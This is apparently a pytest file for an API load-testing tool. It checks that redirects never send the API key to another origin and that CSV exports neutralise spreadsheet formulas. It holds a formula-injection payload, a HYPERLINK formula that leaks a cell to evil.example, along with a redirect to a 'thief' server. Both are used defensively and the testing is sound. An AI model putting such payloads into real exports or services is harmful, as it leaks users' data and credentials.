"""The load requests themselves against a hostile server: a redirect never carries the API key to
another origin (either client), and a server's text that a spreadsheet would run as a formula is
written as text. Before: `finish_reason` `=HYPERLINK(...)` went raw into PREFIX_requests.csv."""

from __future__ import annotations

import csv

import pytest

from tests.hostile import runs
from tests.hostile.server import chat_stream, models, redirect

KEY = "sk-load-redirect-41a0"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _run(tmp, host: str, *extra: str, seconds: int = 3) -> list[dict]:
    proc = runs.start(tmp, host, "--headless", "-u", "2", "-r", "2", "-t", f"{seconds}s", "--metrics-url",
                      "off", "--api-key", KEY, *extra)
    out, _ = proc.communicate(timeout=120)
    assert "Traceback" not in out, out[-3000:]
    with (tmp / "run_requests.csv").open(newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("client", ["fast", "openai"])
def test_a_redirected_request_never_takes_the_key_to_another_origin(hostile, tmp_path, client):
    thief = hostile({"/v1/chat/completions": chat_stream()})
    to_thief = redirect(thief.url + "/v1/chat/completions", 307)
    liar = hostile({"/v1/models": models(), "/v1/chat/completions": to_thief})
    rows = _run(tmp_path, liar.url, "--client", client, seconds=8)  # the SDK takes seconds to import
    assert rows and liar.requests_to("/v1/chat/completions")
    if client == "fast":  # never followed: the redirect is the request's failure
        assert {r["error"].split(":")[0] for r in rows} - {"interrupted"} == {"http_307"}
    assert [s.headers.get("Authorization") for s in thief.seen if s.headers.get("Authorization")] == []


def test_a_formula_from_the_server_is_written_as_text(hostile, tmp_path):
    server = hostile({"/v1/models": models(), "/v1/chat/completions": chat_stream(finish_reason=FORMULA)})
    rows = _run(tmp_path, server.url)
    done = [r for r in rows if not r["error"]]
    assert len(done) > 3
    # as the server sent it (up to the length a row keeps), behind an apostrophe
    kept = {r["finish_reason"] for r in done}
    assert all(k.startswith("'=HYPERLINK(") and ("'" + FORMULA).startswith(k) for k in kept), kept
